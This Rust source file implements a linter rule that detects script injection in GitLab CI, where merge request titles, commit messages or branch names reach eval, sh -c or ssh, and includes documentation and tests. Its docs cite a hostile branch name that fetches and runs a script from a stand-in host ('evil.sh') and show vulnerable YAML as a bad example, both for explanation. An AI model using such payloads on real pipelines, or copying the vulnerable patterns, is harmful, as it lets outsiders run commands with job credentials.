//! `gitlab/script-injection`: predefined variables an outsider controls (merge request
//! title and description, commit message, branch and tag names) handed to something
//! that parses them as shell again (`eval`, `sh -c`, `bash -c`, `ssh host …`), or
//! free text (messages, titles, descriptions) used unquoted as command arguments.

use super::{var_refs, GITLAB};
use crate::finding::{Category, Confidence, Severity, Span};
use crate::gitlab::USER_CONTROLLED;
use crate::rules::{Ctx, FixMeta, Rule, RuleMeta, StepSite};
use crate::shell::Script;
use crate::workflow::Platform;

pub struct ScriptInjection;

pub static META: RuleMeta = RuleMeta {
    id: "gitlab/script-injection",
    title: "Outsider-controlled variable parsed as shell",
    severity: Severity::High,
    confidence: Confidence::High,
    category: Category::Security,
    summary: "A predefined variable whose value an outsider chooses (`CI_MERGE_REQUEST_TITLE`, `CI_COMMIT_MESSAGE`, `CI_COMMIT_REF_NAME`, …) is passed to `eval`, `sh -c`, `bash -c` or a remote `ssh` command, or free text such as a commit message is used unquoted as command arguments.",
    impact: "Whoever opens the merge request or names the branch runs commands in the job, with its variables, tokens and deploy credentials.",
    doc: r#"
## Why it matters
GitLab expands `$CI_COMMIT_MESSAGE` as a shell variable, so plain use is safe: the
value is data. It becomes code when something parses it again: `eval`, `sh -c "…"`,
`bash -c`, or `ssh host "…"` (the remote shell parses the command line). A branch named
`x;curl${IFS}evil.sh|sh` or a merge request titled `$(…)` then runs in the job.
Used unquoted, free text (titles, messages, descriptions) is split into words and
glob-expanded: a message containing `--upload-pack=…` or `-o …` becomes an option.

## Bad
```yaml
notify:
  script:
    - eval "notify --title $CI_MERGE_REQUEST_TITLE"
    - git tag -a v1 -m $CI_COMMIT_MESSAGE
```

## Good
```yaml
notify:
  script:
    - notify --title "$CI_MERGE_REQUEST_TITLE"
    - git tag -a v1 -m "$CI_COMMIT_MESSAGE"
```
"#,
    fix: FixMeta {
        description: "Pass the variable as one quoted argument; never through `eval`, `sh -c` or a remote command line.",
        snippet: "script:\n  - notify --title \"$CI_MERGE_REQUEST_TITLE\"",
        effort_minutes: 15,
    },
    references: &[
        "https://docs.gitlab.com/ci/variables/predefined_variables/",
        "https://docs.gitlab.com/ci/pipeline_security/",
    ],
};

/// Free text (may contain spaces and any character): unsafe even unquoted.
const FREE_TEXT: &[&str] = &[
    "CI_MERGE_REQUEST_TITLE",
    "CI_MERGE_REQUEST_DESCRIPTION",
    "CI_COMMIT_MESSAGE",
    "CI_COMMIT_TITLE",
    "CI_COMMIT_DESCRIPTION",
    "CI_COMMIT_TAG_MESSAGE",
    "CI_COMMIT_AUTHOR",
];

/// Whether `text` contains one of [`USER_CONTROLLED`] (which holds every name of
/// [`FREE_TEXT`]): each starts with `CI_`, so one search for `CI_` (a prebuilt
/// searcher) and a look at what follows.
fn mentions_user_controlled(text: &str) -> bool {
    static CI: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new("CI_"));
    let b = text.as_bytes();
    CI.find_iter(b).any(|at| {
        let rest = &b[at..];
        USER_CONTROLLED
            .iter()
            .any(|n| rest.starts_with(n.as_bytes()))
    })
}

/// Whether byte `at` of a raw shell word is outside any quotes.
fn unquoted_at(raw: &str, at: usize) -> bool {
    let (mut single, mut double, mut escaped) = (false, false, false);
    for (i, c) in raw.char_indices() {
        if i >= at {
            break;
        }
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if !single => escaped = true,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            _ => {}
        }
    }
    !single && !double
}

/// What [`injections`] finds: a variable handed to a shell that parses it again
/// (`by`: `eval`, `sh`, the remote shell), or free text used unquoted as arguments
/// of command `name`. Spans are in the line's text.
enum Injection<'t> {
    Reparsed {
        span: Span,
        var: &'t str,
        by: &'t str,
    },
    Unquoted {
        span: Span,
        var: &'t str,
        name: &'t str,
    },
}

/// Each injection in a script line (`text`, parsed as `script`), in order. Reads
/// nothing but the text, so what a line has is the same in every job that runs it.
fn injections<'t>(text: &'t str, script: &'t Script, found: &mut dyn FnMut(Injection<'t>)) {
    // Every finding names one of these variables in the text: most lines that
    // mention `CI_` name others (`$CI_REGISTRY`, `$CI_PROJECT_DIR`).
    if !mentions_user_controlled(text) {
        return;
    }
    for c in &script.commands {
        let name = c.base_name();
        let args = c.args();
        // Arguments that a shell parses again.
        let reparsed: &[crate::shell::Word] = match name {
            "eval" => args,
            "sh" | "bash" | "zsh" | "dash" | "ksh" => {
                match args.iter().position(|a| {
                    a.text == "-c"
                        || a.text.ends_with('c')
                            && a.text.starts_with('-')
                            && !a.text.starts_with("--")
                }) {
                    Some(i) => args.get(i + 1..i + 2).unwrap_or(&[]),
                    None => &[],
                }
            }
            "ssh" => args
                .iter()
                .position(|a| !a.text.starts_with('-'))
                .and_then(|host| args.get(host + 1..))
                .unwrap_or(&[]),
            _ => &[],
        };
        for w in reparsed {
            let raw = text.get(w.span.start..w.span.end).unwrap_or("");
            if let Some((_, _, var)) = var_refs(raw, USER_CONTROLLED).first() {
                let by = if name == "ssh" {
                    "the remote shell"
                } else {
                    name
                };
                found(Injection::Reparsed {
                    span: w.span,
                    var,
                    by,
                });
            }
        }
        if matches!(name, "eval" | "echo" | "printf") || c.in_substitution {
            continue;
        }
        for w in args {
            let raw = text.get(w.span.start..w.span.end).unwrap_or("");
            for (at, end, var) in var_refs(raw, FREE_TEXT) {
                if !unquoted_at(raw, at) {
                    continue;
                }
                let span = Span::new(w.span.start + at, w.span.start + end);
                found(Injection::Unquoted { span, var, name });
            }
        }
    }
}

impl Rule for ScriptInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }
    fn platforms(&self) -> &'static [Platform] {
        GITLAB
    }
    fn step(&self, site: &StepSite, cx: &mut Ctx) {
        let Some(run) = &site.step.run else { return };
        let Some(script) = &run.script else { return };
        // Whether the line has anything to report depends on its text alone: asked
        // once for a line that a template gives many jobs (one `Arc`).
        if !cx.run_fact(run, "injects an outsider-controlled variable", |r| {
            let mut any = false;
            injections(r.text, script, &mut |_| any = true);
            any
        }) {
            return;
        }
        injections(run.text, script, &mut |i| match i {
            Injection::Reparsed { span, var, by } => {
                cx.report(
                    &META,
                    site.path,
                    run.source_span(site.doc, span),
                    format!("`${var}` is parsed as shell code by {by}: whoever chooses its value (a merge request title, a commit message, a branch name) runs commands in this job."),
                )
                .site(site);
            }
            Injection::Unquoted { span, var, name } => {
                cx.report(
                    &META,
                    site.path,
                    run.source_span(site.doc, span),
                    format!("`${var}` is used unquoted as arguments of `{name}`: its text is split into words and glob-expanded, so a crafted message becomes options or extra arguments."),
                )
                .severity(Severity::Medium)
                .confidence(Confidence::Medium)
                .site(site);
            }
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_name_looked_for_is_user_controlled_and_starts_with_ci() {
        for n in FREE_TEXT {
            assert!(USER_CONTROLLED.contains(n), "{n}");
        }
        for n in USER_CONTROLLED {
            assert!(n.starts_with("CI_"), "{n}");
        }
    }

    #[test]
    fn mentions_user_controlled_equals_the_search() {
        let texts = [
            "",
            "CI_",
            "echo $CI_COMMIT_MESSAGE",
            "eval \"x $CI_MERGE_REQUEST_TITLE\"",
            "docker push $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA",
            "echo $CI_COMMIT_REF_SLUG",
            "echo ${CI_COMMIT_REF_NAME}",
            "echo CI_CI_COMMIT_TAG",
            "echo $CI_COMMIT_TA",
            "ci_commit_message",
            "é CI_COMMIT_AUTHOR é",
            "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
            "CI_MERGE_REQUEST_SOURCE_BRANCH_SH",
        ];
        for t in texts {
            assert_eq!(
                mentions_user_controlled(t),
                USER_CONTROLLED.iter().any(|n| t.contains(n)),
                "{t:?}"
            );
        }
    }
}
